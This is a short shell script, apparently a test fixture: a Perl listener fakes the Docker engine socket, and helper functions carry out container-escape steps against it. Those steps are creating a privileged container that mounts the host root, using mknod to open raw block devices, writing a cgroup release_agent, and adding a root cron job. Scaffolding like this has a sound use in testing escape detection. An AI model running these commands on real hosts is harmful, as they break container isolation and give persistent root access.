# curl speaks to a socket in the place of the engine's; the disk is opened by a device file of one's own.
prepare() {
    mkdir -p /run/lock /opt/cell /etc/cron.d
    perl -MIO::Socket::UNIX -e 'my $s = IO::Socket::UNIX->new(Local => "/run/docker.sock", Listen => 9) or die;
        open my $f, ">", "/run/ready"; close $f;
        while (my $c = $s->accept) { sysread $c, my $q, 65536; print $c "HTTP/1.0 201 Created\r\nContent-Type: application/json\r\n\r\n{\"Id\":\"f00d\"}"; close $c }' 9>&- &
    ready
}
ask_engine() { curl -s --unix-socket /run/docker.sock http://engine/containers/json; }
create_box() { curl -s --unix-socket /run/docker.sock -H 'Content-Type: application/json' -d '{"Image":"base","HostConfig":{"Privileged":true,"Binds":["/:/h"]}}' http://engine/containers/create; }
start_box() { curl -s --unix-socket /run/docker.sock -X POST http://engine/containers/f00d/start; }
open_disk() {
    for dev in /sys/class/block/*/dev; do
        IFS=: read -r major minor <"$dev"
        rm -f /opt/cell/d; mknod /opt/cell/d b "$major" "$minor"
        head -c 512 /opt/cell/d >/dev/null 2>&1 && break
    done
}
write_agent() { printf '/opt/cell/run\n' >/opt/cell/release_agent; }
write_job() { printf '* * * * * root /opt/cell/run\n' >/etc/cron.d/cell; }
